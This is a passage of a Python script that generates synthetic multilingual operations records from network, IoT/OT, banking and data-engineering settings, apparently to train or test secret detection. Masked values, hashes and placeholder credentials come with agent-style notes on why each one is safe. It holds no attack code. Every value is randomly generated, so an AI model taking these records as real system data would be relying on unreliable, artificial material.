    ("task", "Comprobar el túnel IKEv2 con el proveedor de nóminas"),
    ("tool_output", f"asa-mad-01# show crypto ikev2 sa\nTunnel-id Local                 Remote                fvrf/ivrf  Status  Role\n{nz(9)} {ipdoc()}/500 {ipdoc()}/500 Global/Global READY INITIATOR\n      Encr: AES-CBC, keysize: 256, Hash: SHA384, DH Grp:20, Auth sign: PSK, Auth verify: PSK\n      Life/Active Time: 86400/3120 sec"),
    ("final", "Túnel activo. 'Auth sign: PSK' solo indica el método de autenticación; la clave no aparece."),
], NET))

I("en", f"""[{ts('log')}] VERBOSE[2211] res_pjsip_logger.c: <--- Received SIP request (612 bytes) from UDP:{ip10()}:5060 --->
REGISTER sip:pbx.acme.example SIP/2.0
Via: SIP/2.0/UDP {ip10()}:5060;branch=z9hG4bK{hx(10)}
From: <sip:2041@pbx.acme.example>;tag={hx(8)}
Call-ID: {hx(32)}@{ip10()}
Authorization: Digest username="2041", realm="asterisk", nonce="{hx(32)}", uri="sip:pbx.acme.example", response="{hx(32)}", algorithm=MD5, qop=auth, nc=00000002, cnonce="{hx(8)}"
# netops-agent: digest response is a one-time MD5 over nonce+credentials, not the password""")

I("pt", rec([
    ("task", "Documentar o novo tronco SIP da central de Lisboa"),
    ("final", f"Registrar: sip.operadora-exemplo.pt:5060 (UDP), DIDs 21{dg(7)}–21{dg(7)}, codecs G.711a/G.729, "
              "utilizador = número principal, palavra-passe guardada no cofre 'Telecom/Tronco-PT' (não registada aqui)."),
], NET))

I("en", f"""$ snmpwalk -v3 -l authPriv -u zabbix -a SHA -A "$SNMP_AUTH" -x AES -X "$SNMP_PRIV" sw-core-a system
SNMPv2-MIB::sysDescr.0 = STRING: Cisco IOS Software [Dublin], Catalyst L3 Switch Software (CAT9K_IOSXE), Version 17.12.4
SNMPv2-MIB::sysObjectID.0 = OID: SNMPv2-SMI::enterprises.9.1.2494
DISMAN-EVENT-MIB::sysUpTimeInstance = Timeticks: ({nz(9)}) 71 days, 2:14:05.12
SNMPv2-MIB::sysContact.0 = STRING: noc@acme.example
ENTITY-MIB::entPhysicalSerialNum.1 = STRING: FOC{rs(8, UP + DG)}
SNMP-FRAMEWORK-MIB::snmpEngineID.0 = Hex-STRING: 80 00 00 09 03 00 {' '.join(HX(2) for _ in range(6))}""")

I("it", rec([
    ("task", "Inventario AP sede di Bologna"),
    ("tool_call", call("unifi.devices.list", {"site": "bologna"})),
    ("tool_output", "\n".join(f"U7-Pro  mac={mac()}  serial={HX(12)}  fw=7.0.{_r.randint(10, 99)}  ip={ip10()}" for _ in range(3))),
    ("final", "3 AP online, firmware allineato."),
], NET))

I("en", rec([
    ("task", "Commit pending candidate config on pa-fw-01 via XML API"),
    ("tool_call", call("http.post", {"url": "https://pa-fw-01.acme.example/api/?type=commit&cmd=<commit></commit>", "headers": {"X-PAN-KEY": "${PANOS_API_KEY}"}})),
    ("tool_output", f"<response status=\"success\" code=\"19\"><result><msg><line>Commit job enqueued with jobid {_r.randint(1000, 9999)}</line></msg><job>{_r.randint(1000, 9999)}</job></result></response>"),
], NET))

I("en", f"""config system admin
    edit "netops-ro"
        set accprofile "read_only"
        set vdom "root"
        set password ENC SH2{rs(60, HEXL)}
    next
end
# netops-agent {ts()}: 'ENC SH2' is FortiOS' salted SHA-256 hash of the admin password (not reversible); kept in backup as-is""")

I("cs", rec([
    ("task", "Kanálový plán Wi-Fi pro sklad v Ostravě"),
    ("final", "2,4 GHz: kanály 1/6/11, 5 GHz: 36–64 a 100–140 s šířkou 40 MHz, výkon AP max 14 dBm. SSID ACME-Sklad (VLAN 240, WPA2-PSK – klíč v trezoru, ne v tomto záznamu)."),
], NET))

I("en", rec([
    ("task", "Which Meraki networks still run MR firmware < 31?"),
    ("tool_call", call("http.get", {"url": f"https://api.meraki.com/api/v1/organizations/{nz(6)}/firmware/upgrades", "headers": {"X-Cisco-Meraki-API-Key": "{{ meraki_api_key }}"}})),
    ("tool_output", f'[{{"network":{{"id":"L_{nz(18)}","name":"Lisbon-HQ"}},"product":"wireless","toVersion":{{"shortName":"MR 31.1.6"}},"upgradeBatchId":"{nz(12)}"}}]'),
], NET))

I("ru", rec([
    ("task", "Проверить настройки TACACS+ на коммутаторах в Казани"),
    ("tool_output", f"tacacs server ISE-1\n address ipv4 {ip10()}\n key 6 <removed by show-sanitizer>\n timeout 5\naaa group server tacacs+ ISE\n server name ISE-1"),
    ("final", "Ключ хранится в виде type 6 (AES под master key); в выводе он удалён санитайзером."),
], NET))

I("en", f"""rtr-edge-fra-01#show ip bgp neighbors {ipdoc()} | include BGP state|Option|md5|Local host|Foreign host
  BGP state = Established, up for 3w2d
  Option Flags: nagle, path mtu capable, md5
Local host: {ipdoc()}, Local port: 179
Foreign host: {ipdoc()}, Foreign port: 34552
# netops-agent: session uses TCP-MD5 (flag shown); key itself is not displayed by IOS""")

I("no", rec([
    ("task", "Brannmurendring i Bergen – ny regel for betalingsterminaler"),
    ("final", f"Endring {tk('CHG', 7)} godkjent. Regel 'pos-to-acquirer' tillater {ip10()}/27 -> {ipdoc()}:443. Ingen legitimasjon endret."),
], NET))

I("ar", rec([
    ("task", "توثيق دائرة الإنترنت لفرع جدة"),
    ("final", f"رقم الدائرة: JED-FTTH-{dg(8)}، اسم مستخدم PPPoE: jed-br-{dg(5)}@isp.example (كلمة المرور محفوظة في الخزنة فقط)، عنوان IP الثابت: {ipdoc()}."),
], NET))

I("en", f"""(aruba-mc-01) #show ap database long
Name          Group     AP Type  IP Address     Status         Flags  Switch IP      Serial #    Wired MAC Address
----          -----     -------  ----------     ------         -----  ---------      --------    -----------------
AP-HQ-2F-01   HQ-2F     535      {ip10():<14} Up 12d:4h:2m   2      {ip10():<14} {rs(10, UP + DG)}  {mac()}
AP-HQ-2F-02   HQ-2F     535      {ip10():<14} Up 12d:4h:1m   2      {ip10():<14} {rs(10, UP + DG)}  {mac()}
AP-HQ-3F-07   HQ-3F     635      {ip10():<14} Down           N      {ip10():<14} {rs(10, UP + DG)}  {mac()}""")

I("fi", rec([
    ("task", "Tampereen Yealink-puhelinten provisiointi"),
    ("final", f"Tiedostot nimetty MAC-osoitteen mukaan ({mac('', False)}.cfg jne.), jaetaan HTTPS:llä; tunnukset tulevat pbx-palvelimen API:sta laitteen varmenteella. Tiedostoissa ei ole salasanoja."),
], NET))

I("en", rec([
    ("task", "Back up switch configs with Netmiko"),
    ("tool_call", call("netmiko.connect", {"device_type": "cisco_ios", "host": "sw-acc-12", "username": "${NETOPS_USER}", "password": "${NETOPS_PASSWORD}", "secret": "${NETOPS_ENABLE}"})),
    ("tool_output", f"connected; saved backups/sw-acc-12/{ts('date')}.cfg sha256={sha256h()}"),
], NET))

I("uk", rec([
    ("task", "Заміна SIM-карти в LTE-роутері банкомата ATM-0931"),
    ("final", f"Нова SIM: ICCID {iccid()}, IMSI 255{dg(12)}, IMEI модема {imei()}. PIN вимкнено політикою оператора для M2M, PUK зберігається в кабінеті оператора."),
], NET))

I("en", rec([
    ("task", "Why did the on-call SMS fail?"),
    ("tool_call", call("twilio.messages.get", {"account_sid": twilio_sid(), "message_sid": twilio_sid("SM")})),
    ("tool_output", json.dumps({"sid": twilio_sid("SM"), "status": "undelivered", "error_code": 30007, "messaging_service_sid": twilio_sid("MG"), "date_sent": ts()})),
    ("final", "Carrier filtering (30007). Account/Message SIDs are identifiers, not credentials."),
], NET))

I("th", rec([
    ("user", "Wi-Fi ชื่ออะไรบ้างที่ใช้ได้ในออฟฟิศชั้น 12 ครับ"),
    ("reply", "มี ACME-Corp (ล็อกอินด้วยบัญชีบริษัท), ACME-Guest (รหัสผ่านขอได้ที่เคาน์เตอร์ต้อนรับ) และ ACME-IoT (สำหรับอุปกรณ์เท่านั้น)"),
], NET))

I("ja", rec([
    ("task", "大阪支店 RTX1220 の設定レビュー"),
    ("tool_output", f"ip route default gateway pp 1\nip filter 200000 reject 10.0.0.0/8 * * * *\nip filter 200099 pass * * * * *\nnat descriptor type 1000 masquerade\nnat descriptor address outer 1000 ipcp\nlogin password encrypted\nadministrator password encrypted\n# show config 出力（パスワード類は encrypted で非表示）"),
    ("final", "フィルタ設定に問題なし。"),
], NET))

I("en", f"""(Cisco Controller) >show radius auth statistics
Authentication Servers:
Server Index..................................... 3
Server Address................................... {ip10()}
Msg Round Trip Time.............................. 2 (msec)
First Requests................................... {nz(6)}
Access Accepts................................... {nz(6)}
Access Rejects................................... {nz(4)}
Shared Secret Format............................. ASCII
Shared Secret.................................... ****
Bad Authenticator Msgs........................... 0""")

I("ko", rec([
    ("task", "판교 사무실 VLAN 구성 정리"),
    ("final", "VLAN 10 업무망(10.30.10.0/24), VLAN 20 개발망, VLAN 99 관리망. 스위치 관리 계정은 TACACS+ 로 인증하며 로컬 계정 비밀번호는 이 문서에 기록하지 않음."),
], NET))

I("en", f"""# /etc/wireguard/wg0.conf (public parts only, exported for the peer onboarding doc)
[Interface]
Address = 10.99.0.1/24
ListenPort = 51820
PrivateKey = <stored in /etc/wireguard/private.key, mode 0600>

[Peer]
# noc-laptop-09
PublicKey = {wg_key()}
AllowedIPs = 10.99.0.9/32""")

# ---- C. industrial & IoT --------------------------------------------------
_section("C")
I("en", f"""# /etc/mosquitto/conf.d/plant-a.conf
listener 8883
cafile /etc/ssl/plant-ca.pem
certfile /etc/mosquitto/certs/broker.crt
keyfile /etc/mosquitto/certs/broker.key
require_certificate false
allow_anonymous false
password_file /etc/mosquitto/passwd
acl_file /etc/mosquitto/acl
# /etc/mosquitto/passwd (hashes only, PBKDF2-SHA512):
line3-reader:$7$101${b64(12)}${b64(64)}
# ot-iot-agent: hashes produced by mosquitto_passwd; safe to keep in the config backup""")

I("de", rec([
    ("task", "Node-RED-Flow exportieren für die Dokumentation"),
    ("tool_output", json.dumps([{"id": hx(16), "type": "mqtt-broker", "name": "broker-halle4", "broker": "10.40.1.15", "port": "8883", "usetls": True,
                                  "clientid": "nodered-druckluft", "credentials": {}}], ensure_ascii=False)),
    ("thought", "Zugangsdaten liegen in flows_cred.json (verschlüsselt mit credentialSecret) und wurden nicht mit exportiert."),
], OT))

I("en", rec([
    ("task", "Inventory cameras on the loading dock"),
    ("tool_output", "\n".join(f"CAM-DOCK-0{i} model=DS-2CD2387G2 fw=V5.7.{_r.randint(10, 20)} serial=DS-2CD2387G2{dg(9)}AAWR{rs(9, UP + DG)} stream=rtsp://{ip10()}:554/Streaming/Channels/101 (auth via NVR service account)" for i in range(1, 4))),
], OT))

I("zh", rec([
    ("task", "仓库 NVR 通道状态巡检"),
    ("tool_output", f"通道 D1–D16：14 在线，2 离线（D7、D12）\n设备序列号 DS-7616NI-K2{dg(9)}  固件 V4.{_r.randint(30, 80)}.{_r.randint(0, 9)}  MAC {mac()}"),
    ("final", "已通知现场检查 PoE 端口 7 与 12。管理员密码未在本记录中出现。"),
], OT))

I("en", rec([
    ("task", "Decode push notification from meter " + dg(8) + " (DLMS over LoRa)"),
    ("tool_output", f"systemTitle=0x{HX(16)}\nsecurityControl=0x30 (auth+enc, suite 0)\ninvocationCounter=0x{HX(8)}\nciphered APDU=0x{HX(48)}...\nauthTag=0x{HX(24)}\nOBIS 1.0.1.8.0.255 (A+ total) pending decryption"),
    ("thought", "System title, invocation counter and auth tag are public framing values; the GUEK lives in the HES key store."),
], OT))

I("nl", rec([
    ("task", "Registermap van de Modbus-gateway in gemaal Zuidhaven documenteren"),
    ("final", "40001-40010: pompstatus (bitfield); 40011: debiet m³/h ×10; 40020-40021: bedrijfsuren (uint32); slave-id 3; 19200 8N1. Beheerwachtwoord staat in de OT-kluis."),
], OT))

I("en", rec([
    ("task", "Check PLC project integrity before FAT"),
    ("tool_output", f"Project: Line2_v14.ap17\nCPU: 6ES7 516-3FP03-0AB0  FW V3.1.2  SN S C-{rs(10, UP + DG)}\nProtection level: Complete protection (password set, value not exported)\nOnline/offline checksum (SW): {HX(8)}  (F): {HX(8)}\nProject SHA-256: {sha256h()}"),
], OT))

I("pl", rec([
    ("task", "Przegląd alarmów SCADA oczyszczalni – noc"),
    ("tool_output", f"{ts('log')} P3 Over-current ACK by operator op_nocny\n{ts('log')} ZB2 Level-High CLEARED\n{ts('log')} Gateway heartbeat lost 12 s (gw-oczysz-02, serial {rs(12, UP + DG)})"),
    ("final", "Brak nowych krytycznych alarmów."),
], OT))

_cert_txt, _ = pem("CERTIFICATE", 880, CERT_PFX)
I("en", rec([
    ("task", "Verify certificate of AWS IoT thing meter-gw-" + dg(5)),
    ("tool_call", call("aws.iot.describe_certificate", {"certificateId": hx(64)})),
    ("tool_output", f"status: ACTIVE\ncertificateArn: arn:aws:iot:eu-west-1:{dg(12)}:cert/{hx(64)}\ncertificatePem:\n{_cert_txt}"),
    ("thought", "Certificate is public material; the device private key never leaves the gateway's secure element."),
], OT))

I("es", rec([
    ("task", "Revisar el gemelo digital del sensor FL-118 en IoT Hub"),
    ("tool_output", json.dumps({"deviceId": "FL-118", "etag": "AAAAAAAAAA" + rs(2, AN) + "=", "deviceEtag": rs(11, AN), "status": "enabled",
                                 "authenticationType": "selfSigned", "x509Thumbprint": {"primaryThumbprint": HX(40), "secondaryThumbprint": None},
                                 "generationId": dg(18), "version": _r.randint(10, 99)}, indent=1)),
    ("final", "El sensor usa certificado X.509 (solo huella); no hay claves compartidas."),
], OT))

I("en", """# configuration.yaml (Home Assistant, facilities)
mqtt:
  sensor:
    - name: "Boiler flow temperature"
      state_topic: "boiler/flow/temp"
      unit_of_measurement: "°C"
http:
  use_x_forwarded_for: true
  trusted_proxies: 10.0.0.0/8
influxdb:
  host: influx.facilities.local
  token: !secret influx_token
  bucket: ha
# ot-iot-agent: '!secret influx_token' is a reference into secrets.yaml, not a value""")

I("sv", rec([
    ("task", "Lista över LoRaWAN-givare i källaren på Kungsgatan"),
    ("tool_output", "\n".join(f"DevEUI {hx(16)}  JoinEUI 70B3D57ED00{HX(5)}  profil rh-sensor-eu868  senast sedd {ts()}" for _ in range(3))),
    ("final", "Alla tre givare rapporterar. DevEUI/JoinEUI är identifierare; nycklarna finns i ChirpStack."),
], OT))

I("en", f"""zigbee2mqtt info  {ts('log')}: Coordinator firmware version: '{{"meta":{{"revision":"20240710"}},"type":"EmberZNet"}}'
zigbee2mqtt info  {ts('log')}: Network parameters: panID=0x{hx(4)} extendedPanID=0x{hx(16)} channel=15
zigbee2mqtt info  {ts('log')}: Currently 63 devices are joined
zigbee2mqtt info  {ts('log')}: 0x{hx(16)} (dock_door_sensor): Interview successful
# ot-iot-agent: PAN/extended PAN IDs and IEEE addresses are broadcast in beacons; not secrets""")

I("tr", rec([
    ("task", "Otopark kameralarının ONVIF keşif sonuçları"),
    ("tool_output", "\n".join(f"urn:uuid:{guid()}  {ip10()}  Dahua IPC-HFW2431S  scopes=onvif://www.onvif.org/Profile/Streaming" for _ in range(3))),
    ("final", "3 kamera bulundu; kimlik bilgileri VMS kasasından alınacak."),
], OT))

I("en", rec([
    ("task", "Validate OPC UA endpoint of kepware-01 before historian backfill"),
    ("tool_output", f"Endpoint: opc.tcp://kepware-01.plant.local:49320\nSecurityPolicy: http://opcfoundation.org/UA/SecurityPolicy#Basic256Sha256\nServer certificate thumbprint (SHA1): {HX(40)}\nApplicationUri: urn:kepware-01:Kepware.KEPServerEX.V6\nUserIdentityTokens: Anonymous(disabled), UserName, Certificate"),
], OT))

I("hi", rec([
    ("task", "फ़ीडर F-112 के स्मार्ट मीटर रीडिंग का सारांश"),
    ("tool_output", f"meter {dg(8)}: kWh=18432.7 PF=0.96\nmeter {dg(8)}: kWh=9021.4 PF=0.91\nbatch={guid()}"),
    ("final", "7 मीटर संचार विफलता में; सूची फ़ील्ड टीम को भेजी।"),
], OT))

I("it", rec([
    ("task", "Aggiornamento firmware gateway Modbus della cabina elettrica"),
    ("tool_output", f"firmware MGATE-MB3180 v2.{_r.randint(1, 9)}  SHA-256 {sha256h()}  firma verificata: OK\nnumero di serie TAIDB{dg(7)}"),
    ("final", "Checksum conforme a quello pubblicato dal produttore."),
], OT))

I("en", f"""$ emqx ctl clients list | head -3
Client(noc-wall-{hx(6)}, username=noc-wall, peername={ip10()}:51234, clean_start=true, keepalive=60, session_expiry_interval=0, subscriptions=4, inflight=0, awaiting_rel=0, delivered_msgs=1822, enqueued_msgs=0, dropped_msgs=0, connected=true, created_at={ts('epoch')})
Client(line3-plc-gw, username=line3-gw, peername={ip10()}:49822, clean_start=false, keepalive=30, ...)
# ot-iot-agent: no credentials in client listing""")

I("vi", "// secrets.example.h — mẫu, sao chép thành secrets.h và điền giá trị thật (KHÔNG commit secrets.h)\n" + """#pragma once
#define WIFI_SSID      "YOUR_WIFI_SSID"
#define WIFI_PASSWORD  "YOUR_WIFI_PASSWORD"
#define MQTT_HOST      "mqtt.example.local"
#define MQTT_USER      "YOUR_MQTT_USER"
#define MQTT_PASS      "YOUR_MQTT_PASSWORD"
// secrets.h đã có trong .gitignore""")

I("fi", rec([
    ("task", "BACnet-laitteiden inventaario Oulun kohteessa"),
    ("tool_output", "\n".join(f"device instance {_r.randint(1000, 400000)}  vendor=Siemens  model=PXC{_r.randint(4, 7)}.E  ip={ip10()}  objects={_r.randint(50, 400)}" for _ in range(3))),
    ("final", "Inventaario valmis; ei tunnuksia tässä muistiinpanossa."),
], OT))

# ---- D. banking back office & payments ------------------------------------
_section("D")
_uetr = guid()
I("en", rec([
    ("task", f"Track status of outgoing payment UETR {_uetr}"),
    ("tool_call", call("swift.gpi.tracker", {"uetr": _uetr})),
    ("tool_output", f"""{{1:F01ACMEDEFFAXXX{dg(10)}}}{{2:O1991522{dg(6)}NWBKGB2LAXXX{dg(10)}N}}{{3:{{121:{_uetr}}}}}{{4:
:20:PAY{dg(10)}
:21:NONREF
:79:/ACSC/ CREDITED {ts('date')} EUR48250,00
BENEFICIARY ACCOUNT ****{dg(4)} VIA NWBKGB2L
-}}"""),
    ("final", "Payment credited (ACSC). Only BICs, UETR and masked account in the message."),
], PAY))

I("de", rec([
    ("task", "Statusbericht pain.002 der Bank zur Sammelüberweisung KW 46 auswerten"),
    ("tool_output", f"""<OrgnlGrpInfAndSts><OrgnlMsgId>MSG-{hx(16).upper()}</OrgnlMsgId><OrgnlMsgNmId>pain.001.001.09</OrgnlMsgNmId><GrpSts>ACCP</GrpSts></OrgnlGrpInfAndSts>
<TxInfAndSts><OrgnlEndToEndId>E2E-{hx(12).upper()}</OrgnlEndToEndId><TxSts>ACSC</TxSts>
  <OrgnlTxRef><DbtrAgt><FinInstnId><BICFI>COBADEFFXXX</BICFI></FinInstnId></DbtrAgt></OrgnlTxRef></TxInfAndSts>"""),
    ("final", "Alle 41 Posten ausgeführt. Im Statusbericht stehen nur Referenzen und BICs."),
], PAY))

_p = pan("4" + dg(5))
I("en", f"""{ts('log')} INFO  [auth-switch-3] rx mti=0100 stan={dg(6)} tid=T{dg(7)} mid={dg(15)} pan={mask_pan(_p)} exp=**** de22=071
{ts('log')} INFO  [auth-switch-3] tx mti=0110 de38={rs(6, UP + DG)} de39=00 rrn={dg(12)} latency_ms={_r.randint(80, 400)}
{ts('log')} INFO  [auth-switch-3] settlement batch={dg(6)} count={nz(4)} amount=EUR {nz(6)}.{dg(2)}""")

I("fr", rec([
    ("task", "Vérifier le BIC communiqué par un nouveau fournisseur"),
    ("tool_output", f"BIC {rs(4, UP)}FRPP{rs(3, UP + DG)} : établissement trouvé dans l'annuaire SWIFT, agence Paris. Code banque 30004, code guichet 00{dg(3)}."),
    ("final", "BIC et code banque cohérents ; l'IBAN complet sera confirmé par contre-appel (non stocké ici)."),
], PAY))

I("en", f"""{ts('log')} [pos-gw] term=PX{dg(6)} txn=SALE amt=18.40 EUR entry=contactless cvm=online_pin
{ts('log')} [pos-gw] pinblock=<encrypted, ISO-4 under BDK-derived key> ksn=FFFF{HX(16)} bdk_id={HX(6)}
{ts('log')} [pos-gw] resp=00 auth={rs(6, UP + DG)} rrn={dg(12)} stan={dg(6)}
# payments-backoffice: KSN is the DUKPT key serial number (public counter), safe to log""")

I("en", rec([
    ("task", "Record key ceremony outcome for branch 0417 ATMs"),
    ("final", f"TMK loaded into 4 devices. Component KCVs: A={HX(6)}, B={HX(6)}, C={HX(6)}; combined key KCV {HX(6)}. Custodians: K. Olsen, M. Ito, R. Duarte. Witness: Internal Audit."),
    ("lesson", "Only KCVs (check values) go into the record; clear components stay on paper in the sealed envelopes."),
], PAY))

I("es", rec([
    ("task", "Consulta de BIN para clasificar tarjetas rechazadas"),
    ("tool_output", "\n".join(f"BIN {_r.choice(['4', '5'])}{dg(5)}  marca={_r.choice(['VISA', 'MASTERCARD'])}  tipo={_r.choice(['DEBIT', 'CREDIT'])}  país=ES  emisor=Banco Ejemplo" for _ in range(3))),
    ("final", "La mayoría de rechazos son de tarjetas de débito prepago; los BIN (6 dígitos) no identifican tarjetas concretas."),
], PAY))

I("pt", rec([
    ("task", "Conciliação de vendas do terminal POS da loja 12"),
    ("tool_output", "\n".join(f"NSU {dg(9)}  autorização {rs(6, UP + DG)}  cartão {mask_pan(pan('5' + dg(5)))}  valor R$ {_r.randint(10, 900)},{dg(2)}  TID {dg(8)}" for _ in range(3))),
    ("final", "Três vendas conciliadas com o extrato da adquirente."),
], PAY))

I("en", rec([
    ("task", "Find the Stripe charge behind customer complaint " + tk("CS-", 7)),
    ("tool_call", call("stripe.charges.search", {"query": "metadata['order_id']:'" + dg(9) + "'", "api_key": "${STRIPE_SECRET_KEY}"})),
    ("tool_output", json.dumps({"id": "ch_3" + rs(23), "payment_intent": "pi_3" + rs(23), "balance_transaction": "txn_3" + rs(23),
                                 "payment_method_details": {"card": {"brand": "visa", "last4": dg(4), "fingerprint": rs(16), "exp_month": 8, "exp_year": 2029}}})),
], PAY))

I("nl", rec([
    ("task", "Terugbetaling verwerken voor bestelling " + dg(9)),
    ("tool_output", f"refund RF-{dg(8)} status=paid iban=NL**{rs(4, UP)}******{dg(4)} end_to_end_id=E2E{hx(14).upper()}"),
    ("final", "Terugbetaling uitgevoerd; IBAN alleen gemaskeerd opgeslagen."),
], PAY))

I("en", f"""POST /webhooks/stripe HTTP/1.1
Host: pay.acme.example
Stripe-Signature: t={ts('epoch')},v1={hx(64)},v0={hx(64)}
Content-Type: application/json; charset=utf-8

{{"id":"evt_1{rs(23)}","type":"payout.paid","data":{{"object":{{"id":"po_1{rs(23)}","amount":1289044}}}}}}
# payments-backoffice: v1 is an HMAC-SHA256 signature of the payload (verifiable, not reusable); the signing secret is in Vault""")

I("pl", rec([
    ("task", "Potwierdzenie przelewu zwrotnego dla sprawy " + tk("ZW/", 5)),
    ("tool_output", f"rachunek odbiorcy: PL** **** **** **** **** **** {dg(4)}\nnumer referencyjny: {rs(16, UP + DG)}\ndata księgowania: {ts('date')}"),
    ("final", "Zwrot zaksięgowany."),
], PAY))

I("en", rec([
    ("task", "Pin the bank's SFTP host key and EBICS bank keys for the treasury connector"),
    ("tool_output", f"SFTP host key: ssh-ed25519 SHA256:{b64u(_r.randbytes(32))}\nEBICS HostID: BANKEX{dg(2)}  PartnerID: ACME{dg(4)}  UserID: TREAS01\nBank authentication key hash (X002): {' '.join(HX(2) for _ in range(32))}\nBank encryption key hash (E002): {' '.join(HX(2) for _ in range(32))}"),
    ("final", "Fingerprints verified against the bank's signed initialisation letter."),
], PAY))

I("it", rec([
    ("task", "Verifica esito bonifici di rimborso"),
    ("tool_output", "\n".join(f"CRO {dg(11)}  TRN {rs(4, UP)}{dg(26)}  importo {_r.randint(50, 500)},00 EUR  esito OK" for _ in range(2))),
    ("final", "Entrambi i bonifici eseguiti; CRO/TRN sono solo riferimenti."),
], PAY))

I("en", rec([
    ("task", "Migrate ZPK to the new payShield 10K"),
    ("tool_output", f"Key under LMK (encrypted): U{HX(32)}\nKey check value: {HX(6)}\nLMK identifier: 00  key scheme: U (variant double length)"),
    ("thought", "Keys exported under the LMK are ciphertext and only usable inside an HSM holding that LMK; KCV is a check value."),
    ("final", "Key imported; KCV matches the source HSM."),
], PAY))

I("ar", rec([
    ("task", "تتبع حوالة دولية صادرة"),
    ("tool_output", f"UETR: {guid()}\nالحالة: ACSP (قيد المعالجة لدى البنك الوسيط)\nالبنك الوسيط: CHASUS33XXX\nالمرجع: TT{dg(10)}"),
    ("final", "الحوالة لدى البنك الوسيط؛ لا توجد بيانات حساب كاملة في السجل."),
], PAY))

I("en", f"""ISO8583 DUMP (atm-host-2, masked) -- payments-backoffice
  MTI  0210
  DE2  {mask_pan(pan('4' + dg(5)))}
  DE4  000000020000
  DE11 {dg(6)}
  DE37 {dg(12)}
  DE38 {rs(6, UP + DG)}
  DE39 00
  DE41 ATM{dg(5)}
  DE42 {dg(15)}
  DE35 [suppressed]""")

I("ru", rec([
    ("task", "Проверить реквизиты банка получателя перед платежом"),
    ("tool_output", f"БИК 04{dg(7)}, SWIFT SABRRUMMXXX, наименование: ПАО «Банк-Пример», город Москва"),
    ("final", "Реквизиты банка корректны; счёт получателя подтверждается отдельно по телефону."),
], PAY))

I("en", rec([
    ("task", "Customer says the OTP for online banking never arrives"),
    ("tool_call", call("otp.delivery.status", {"customer": "8821" + dg(4), "channel": "sms"})),
    ("tool_output", f"last OTP generated {ts()} to +44 7700 900{dg(3)} status=DELIVERED carrier_ref={hx(20)} (code not stored)"),
    ("reply", "The SMS was delivered at the carrier. Please check blocked senders. We never ask you to read the code to us."),
], PAY))

I("tr", rec([
    ("task", "Tedarikçi ödemesi dekontu"),
    ("tool_output", f"Dekont no: {dg(12)}\nAlıcı IBAN: TR** **** **** **** **** **{dg(2)} {dg(2)}\nSorgu no: {rs(10, UP + DG)}\nTutar: 48.200,00 TRY"),
    ("final", "Ödeme tamamlandı."),
], PAY))

I("en", rec([
    ("task", "Set up NACHA file for vendor payments"),
    ("tool_output", f"1 01 {aba_routing()}{dg(10)}{ts('date').replace('-', '')[2:]}1200A094101ACME BANK              ACME CORP\n5220ACME CORP                           {dg(10)}PPDVENDORPAY\n# immediate destination = ODFI routing number only; receiver accounts are in entry records (not shown)"),
    ("final", "Header/batch validated; trace numbers start at " + aba_routing()[:8] + "0000001."),
], PAY))

I("ja", rec([
    ("task", "振込先銀行コードの確認"),
    ("tool_output", f"金融機関コード 0005（三菱UFJ銀行）、支店コード {dg(3)}、振込依頼番号 {dg(10)}"),
    ("final", "銀行・支店コードは公開情報。口座番号は別途電話で確認済み（記録なし）。"),
], PAY))

I("ko", rec([
    ("task", "결제 승인 내역 조회"),
    ("tool_output", f"승인번호 {dg(8)}  카드 {mask_pan(pan('5' + dg(5)))}  금액 39,000원  가맹점번호 {dg(10)}  단말기 {dg(8)}"),
    ("final", "정상 승인 건입니다."),
], PAY))

I("zh", rec([
    ("task", "核对退款交易流水"),
    ("tool_output", f"交易流水号 {dg(20)}  卡号 {mask_pan(pan('62' + dg(4), 19))}  商户号 {dg(15)}  终端号 {dg(8)}  参考号 {dg(12)}"),
    ("final", "退款已于 " + ts("date") + " 入账。"),
], PAY))

I("en", rec([
    ("task", "Document test cards for the checkout QA environment"),
    ("final", "Use the processor's documented TEST card numbers only, e.g. 4242 4242 4242 4242 (Visa, any future expiry, any CVC) and "
              "5555 5555 5555 4444 (Mastercard). These are public sandbox examples and are rejected in live mode."),
], PAY))

I("he", rec([
    ("task", "אימות פרטי סניף בנק לתשלום ספק"),
    ("tool_output", f"בנק 12 (הפועלים), סניף {dg(3)}, קוד SWIFT POALILIT, אסמכתא {dg(9)}"),
    ("final", "פרטי הבנק והסניף תקינים. מספר החשבון אומת טלפונית ולא נרשם כאן."),
], PAY))

I("en", f"""Payroll bank change request {tk('PR-', 5)}
  Bank: Example Bank plc
  Sort code: {dg(2)}-{dg(2)}-{dg(2)}
  Account: ****{dg(4)} (full number captured in the HR portal only)
  Payment reference: SAL{dg(8)}
  Verified by call-back: yes ({ts()})""")

_o = dg(10)
I("sv", rec([
    ("task", "Matcha inbetalning mot faktura"),
    ("tool_output", f"OCR-nummer {_o + luhn_digit(_o)}  belopp 12 480,00 SEK  bankgiro 5{dg(3)}-{dg(4)}  bokföringsdag {ts('date')}"),
    ("final", "Betalningen matchad mot faktura " + dg(6) + ". OCR-numret är en betalningsreferens med kontrollsiffra."),
], PAY))

I("uk", rec([
    ("task", "Перевірка реквізитів банку отримувача"),
    ("tool_output", f"МФО {nz(6)}, ЄДРПОУ банку {dg(8)}, IBAN отримувача UA** ****** ***** **** {dg(4)}, референс {rs(12, UP + DG)}"),
    ("final", "Банк підтверджено; повний IBAN у цьому записі не зберігається."),
], PAY))

I("cs", rec([
    ("task", "Párování příchozí platby"),
    ("tool_output", f"kód banky 0800, variabilní symbol {dg(10)}, konstantní symbol 0308, číslo transakce {dg(12)}"),
    ("final", "Platba spárována s fakturou."),
], PAY))

# ---- E. data engineering --------------------------------------------------
_section("E")
I("en", rec([
    ("task", "List Airflow connections to find the warehouse one"),
    ("tool_call", call("k8s.exec", {"pod": "airflow-webserver-0", "cmd": "airflow connections list -o yaml"})),
    ("tool_output", "- conn_id: warehouse_pg\n  conn_type: postgres\n  host: pg-dwh.internal\n  login: etl_loader\n  password: '***'\n  port: 5432\n  schema: dwh\n  extra: '{\"sslmode\": \"require\"}'\n- conn_id: s3_raw\n  conn_type: aws\n  extra: '{\"region_name\": \"eu-central-1\", \"role_arn\": \"arn:aws:iam::" + dg(12) + ":role/airflow-s3-raw\"}'"),
    ("final", "Airflow masks the password field in CLI output; connection details confirmed."),
], DE))

I("en", """# profiles.yml (committed, CI-safe)
acme_analytics:
  target: "{{ env_var('DBT_TARGET', 'dev') }}"
  outputs:
    prod:
      type: snowflake
      account: "{{ env_var('SNOWFLAKE_ACCOUNT') }}"
      user: "{{ env_var('DBT_USER') }}"
      password: "{{ env_var('DBT_PASSWORD') }}"
      role: TRANSFORMER
